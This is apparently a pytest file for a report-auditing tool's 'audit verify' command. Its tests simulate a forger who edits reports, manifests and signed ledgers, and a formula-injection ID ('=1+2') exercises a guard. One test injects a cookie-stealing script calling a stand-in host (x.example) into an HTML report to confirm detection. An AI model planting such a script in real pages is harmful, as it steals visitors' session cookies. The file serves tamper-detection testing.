"""``audit verify`` against a forger: outputs edited with their hash rewritten, manifests and ledgers rewritten.

One real quarterly report (with a signing key) is made once; each case edits a copy of its
reports folder. The dataset names one supervisor ``=1+2``, which the CSV export writes as
``'=1+2`` (formula-injection guard): an untouched run must still verify.
"""
from __future__ import annotations

import hashlib
import hmac
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from perfmodel.audit.verify import page_name

PERIOD = "2026Q3"
ODD_ID = "=1+2"


def perfmodel(*args):
    return subprocess.run([sys.executable, "-m", "perfmodel", *map(str, args)], capture_output=True,
                          text=True, encoding="utf-8", timeout=600)


@pytest.fixture(scope="module")
def sealed(tmp_path_factory):
    """(data folder, reports folder, run folder, key file) of one sealed quarterly report."""
    from perfmodel.data.synth import generate

    root = tmp_path_factory.mktemp("tamper")
    data = root / "data"
    generate(data, seed=11, supervisors=3, start="2026Q1", end=PERIOD)
    for path in data.glob("*.csv"):
        df = pd.read_csv(path, dtype=str, keep_default_na=False)
        if "supervisor_id" in df.columns:
            df["supervisor_id"] = df["supervisor_id"].replace({"S002": ODD_ID})
            df.to_csv(path, index=False)
    key = root / "secret" / "ledger.key"
    proc = perfmodel("report", "--period", PERIOD, "--data", data, "--out", root / "reports", "--sign-key", key)
    assert proc.returncode == 0, proc.stderr[-3000:]
    run = Path(proc.stdout.strip().splitlines()[-1]).parent
    return data, root / "reports", run, key


@pytest.fixture
def copy(sealed, tmp_path):
    """A private copy of the reports folder (ledger included): (reports, run, key)."""
    _, reports, run, key = sealed
    reports2 = Path(shutil.copytree(reports, tmp_path / "reports"))
    return reports2, reports2 / run.relative_to(reports), key


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _canonical(entry: dict) -> bytes:
    body = {k: v for k, v in entry.items() if k not in ("hash", "hmac")}
    return json.dumps(body, sort_keys=True, ensure_ascii=False, separators=(",", ":")).encode("utf-8")


def _rewrite_output_hash(run: Path, name: str) -> None:
    """What a forger does after editing an output: record its new hash in the manifest."""
    path = run / "manifest.json"
    m = json.loads(path.read_text(encoding="utf-8"))
    for o in m["outputs"]:
        if o["path"] == name:
            o["sha256"] = _sha((run / name).read_bytes())
            o["bytes"] = (run / name).stat().st_size
    path.write_text(json.dumps(m, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")


def _forge_last_ledger_entry(reports: Path, run: Path) -> None:
    """A forger without the key: the last entry gets the new manifest hash and a recomputed chain hash."""
    path = reports / "ledger.jsonl"
    lines = path.read_text(encoding="utf-8").splitlines()
    entry = json.loads(lines[-1])
    entry["manifest_sha256"] = _sha((run / "manifest.json").read_bytes())
    entry["hash"] = _sha(_canonical(entry))  # the old hmac stays: it cannot be recomputed without the key
    lines[-1] = json.dumps(entry, ensure_ascii=False, separators=(",", ":"))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _findings(proc) -> list[str]:
    return [line.strip()[2:] for line in proc.stderr.splitlines() if line.strip().startswith("- ")]


def test_an_untouched_run_verifies_with_and_without_the_key(sealed):
    data, reports, run, key = sealed
    # the formula guard is in the CSV: the false alarm of '=1+2' would come from here
    assert "\n'=1+2," in (run / "scores.csv").read_text(encoding="utf-8-sig")
    with_key = perfmodel("audit", "verify", run, "--sign-key", key)
    assert with_key.returncode == 0 and with_key.stdout.strip() == "verified", with_key.stderr[-3000:]
    without = perfmodel("audit", "verify", run)
    assert without.returncode == 0 and without.stdout.strip() == "verified", without.stderr[-3000:]
    assert "give --sign-key FILE to check it" in without.stderr
    # the ledger, checked by hand: one entry naming the run, the manifest's bytes, the chain, the HMAC
    [line] = (reports / "ledger.jsonl").read_text(encoding="utf-8").splitlines()
    entry = json.loads(line)
    assert entry["run"] == f"{PERIOD}/{run.name}" and entry["kind"] == "run" and entry["seq"] == 1
    assert entry["manifest_sha256"] == _sha((run / "manifest.json").read_bytes())
    assert entry["prev"] == "0" * 64 and entry["hash"] == _sha(_canonical(entry))
    assert entry["hmac"] == hmac.new(key.read_bytes().strip(), _canonical(entry), hashlib.sha256).hexdigest()
    assert not (run / "ledger.jsonl").exists()
    assert key.read_bytes().strip() not in (reports / "ledger.jsonl").read_bytes()  # the key stays outside


def test_a_score_and_a_rating_changed_in_the_workbook(copy):
    from openpyxl import load_workbook

    reports, run, key = copy
    recorded = pd.read_csv(run / "scores.csv", dtype={"supervisor_id": str}, encoding="utf-8-sig")
    s001 = recorded.set_index("supervisor_id").loc["S001"]
    wb = load_workbook(run / "scores.xlsx")
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    # headers are labels; the columns are in the order of scores.csv, with the supervisor's
    # name and team inserted after supervisor_id
    assert header[1:3] == ["Name", "Team"]
    shown = ["supervisor_id", "name", "team"] + list(recorded.columns)[1:]
    i_score, i_rating = shown.index("score"), shown.index("rating")
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == "S001")
    new_rating = "D" if s001["rating"] != "D" else "S"
    ws.cell(row, i_score + 1).value = 99.5
    ws.cell(row, i_rating + 1).value = new_rating
    wb.save(run / "scores.xlsx")
    assert header[0] is not None
    _rewrite_output_hash(run, "scores.xlsx")
    _forge_last_ledger_entry(reports, run)  # so that only the cells can give it away
    proc = perfmodel("audit", "verify", run)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    found = _findings(proc)
    sheet = ws.title
    assert (f"scores.xlsx sheet {sheet} row {row} (supervisor_id S001) column score: 99.5 in the workbook, "
            f"recomputed {s001['score']:.10g}") in found
    assert (f"scores.xlsx sheet {sheet} row {row} (supervisor_id S001) column rating: '{new_rating}' in the "
            f"workbook, recomputed '{s001['rating']}'") in found
    assert len(found) == 2, found  # nothing else differs: the hash was rewritten and the ledger forged
    # with the key, the forged ledger entry is named too
    signed = _findings(perfmodel("audit", "verify", run, "--sign-key", key))
    assert any("HMAC mismatch" in f for f in signed) and len(signed) == 3


def test_a_script_added_to_the_page(copy):
    reports, run, key = copy
    page = run / "quarterly_report.html"
    text = page.read_text(encoding="utf-8")
    at = text.index("</body>")
    line = text[:at].count("\n") + 1
    page.write_text(text[:at] + "<script>fetch('https://x.example/?'+document.cookie)</script>" + text[at:],
                    encoding="utf-8")
    _rewrite_output_hash(run, page.name)
    _forge_last_ledger_entry(reports, run)
    proc = perfmodel("audit", "verify", run)
    assert proc.returncode == 1
    assert _findings(proc) == [f"quarterly_report.html: element <script> at line {line} is not allowed in a "
                               f"report page"]


def _score_row(text: str, sid: str) -> tuple[int, int, list[str]]:
    """The "Scores and ratings" table's row of ``sid``: (start, end, header labels)."""
    start = text.index("Scores and ratings</h2>")
    table = text.index("<table", start)
    head = re.findall(r"<th[^>]*>(.*?)</th>", text[table:text.index("</thead>", table)])
    m = re.compile(rf"<tr><td[^>]*>{re.escape(sid)}</td>.*?</tr>").search(text, table)
    return m.start(), m.end(), head


def test_a_number_changed_in_the_page(copy):
    reports, run, _ = copy
    page = run / "quarterly_report.html"
    text = page.read_text(encoding="utf-8")
    start, end, head = _score_row(text, "S001")
    cells = re.findall(r"<td[^>]*>(.*?)</td>", text[start:end])
    j = head.index("Total score")
    shown = cells[j]
    forged = f"{float(shown) + 7.3:.1f}"
    n = 0

    def swap(m):
        nonlocal n
        n += 1
        return m.group(1) + forged + m.group(3) if n == j + 1 else m.group(0)

    row = re.sub(r"(<td[^>]*>)(.*?)(</td>)", swap, text[start:end])
    page.write_text(text[:start] + row + text[end:], encoding="utf-8")
    _rewrite_output_hash(run, page.name)
    _forge_last_ledger_entry(reports, run)
    recorded = pd.read_csv(run / "scores.csv", dtype={"supervisor_id": str}, encoding="utf-8-sig")
    want = recorded.set_index("supervisor_id").loc["S001", "score"]
    assert abs(float(shown) - want) <= 0.05 + 1e-9  # the page showed the score to one decimal
    proc = perfmodel("audit", "verify", run)
    assert proc.returncode == 1
    [finding] = _findings(proc)
    assert finding.startswith("quarterly_report.html: table ")
    assert finding.endswith(f"supervisor S001 Total score shows '{forged}', recomputed {want:.4g}")


def test_a_rewritten_manifest_is_caught_by_the_ledger(copy):
    _, run, _ = copy
    path = run / "manifest.json"
    m = json.loads(path.read_text(encoding="utf-8"))
    m["seed"] = 1  # changes no output: only the ledger can tell
    path.write_text(json.dumps(m, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    proc = perfmodel("audit", "verify", run)
    assert proc.returncode == 1
    [finding] = _findings(proc)
    assert finding.startswith("manifest.json differs from its ledger entry (line 1)")
    assert "give --sign-key FILE to check it" in proc.stderr  # what was not checked is said, pass or fail


def test_a_rewritten_ledger_entry_is_caught_only_with_the_key(copy):
    reports, run, key = copy
    path = run / "manifest.json"
    m = json.loads(path.read_text(encoding="utf-8"))
    m["seed"] = 1
    path.write_text(json.dumps(m, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    _forge_last_ledger_entry(reports, run)
    # without the key the chain holds: this is the limit stated in the README's threat model
    assert perfmodel("audit", "verify", run).returncode == 0
    proc = perfmodel("audit", "verify", run, "--sign-key", key)
    assert proc.returncode == 1
    assert _findings(proc) == [f"ledger line 1 (run {PERIOD}/{run.name}): HMAC mismatch: the entry was "
                               f"rewritten, or this is not the key it was sealed with"]
    other = reports.parent / "other.key"
    other.write_text("f" * 64 + "\n", encoding="utf-8")
    assert "HMAC mismatch" in perfmodel("audit", "verify", run, "--sign-key", other).stderr


@pytest.mark.parametrize("edit, field", [
    (lambda m: {**m, "outputs": None}, "'outputs' is null"),
    (lambda m: {}, "'run_id' is missing"),
    (lambda m: [m], "the manifest is a list"),
    (lambda m: {**m, "inputs": "data/*.csv"}, "'inputs' is a text"),
    (lambda m: {**m, "outputs": [1]}, "outputs item 1 is a number"),
    (lambda m: {**m, "outputs": [{"path": None, "sha256": "x"}]}, "outputs item 1: 'path' is null"),
    (lambda m: {**m, "policy": {"text": 3}}, "policy 'text' is a number"),
    (lambda m: {**m, "period": "Q3"}, "'period' is 'Q3', not a period id"),
])
def test_a_malformed_manifest_is_one_line_and_exit_1(copy, edit, field):
    _, run, _ = copy
    path = run / "manifest.json"
    path.write_text(json.dumps(edit(json.loads(path.read_text(encoding="utf-8")))), encoding="utf-8")
    proc = perfmodel("audit", "verify", run)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    [line] = proc.stderr.splitlines()
    assert line.startswith(f"perfmodel: check failed: {path}: ") and field in line, line


@pytest.fixture(scope="module")
def feedback_run(sealed):
    """A feedback run (one page per supervisor) of the same data, in the same reports folder."""
    data, reports, _, _ = sealed
    proc = perfmodel("report", "--period", PERIOD, "--data", data, "--out", reports, "--notebook", "feedback")
    assert proc.returncode == 0, proc.stderr[-3000:]
    return Path(proc.stdout.strip().splitlines()[-1]).parent.parent


def test_feedback_pages_verify_and_an_indicator_score_changed_in_one_is_named(feedback_run, tmp_path):
    from perfmodel.reporting import runner

    assert page_name(ODD_ID) == runner._safe_name(ODD_ID) == "1_2"  # the page of '=1+2' is found
    ok = perfmodel("audit", "verify", feedback_run)
    assert ok.returncode == 0 and ok.stdout.strip() == "verified", ok.stderr[-3000:]
    reports = Path(shutil.copytree(feedback_run.parents[1], tmp_path / "reports"))
    run = reports / feedback_run.relative_to(feedback_run.parents[1])
    page = run / "feedback" / "S001.html"
    text = page.read_text(encoding="utf-8")
    head = re.findall(r"<th[^>]*>(.*?)</th>", text)
    j = head.index("Indicator score (100 = target)")
    label = "Customer satisfaction"
    m = re.search(rf"<tr><td[^>]*>{label}</td>.*?</tr>", text)
    cells = re.findall(r"<td[^>]*>(.*?)</td>", m.group(0))
    forged = str(int(float(cells[j])) + 40)
    n = 0

    def swap(c):
        nonlocal n
        n += 1
        return c.group(1) + forged + c.group(3) if n == j + 1 else c.group(0)

    row = re.sub(r"(<td[^>]*>)(.*?)(</td>)", swap, m.group(0))
    page.write_text(text[:m.start()] + row + text[m.end():], encoding="utf-8")
    _rewrite_output_hash(run, "feedback/S001.html")
    _forge_last_ledger_entry(reports, run)
    recorded = pd.read_csv(run / "scores.csv", dtype={"supervisor_id": str}, encoding="utf-8-sig")
    want = recorded.set_index("supervisor_id").loc["S001", "score_csat"]
    proc = perfmodel("audit", "verify", run)
    assert proc.returncode == 1
    [finding] = _findings(proc)
    assert finding.startswith("feedback/S001.html: table ")
    assert finding.endswith(f"{label} Indicator score (100 = target) shows '{forged}', recomputed {want:.4g}")
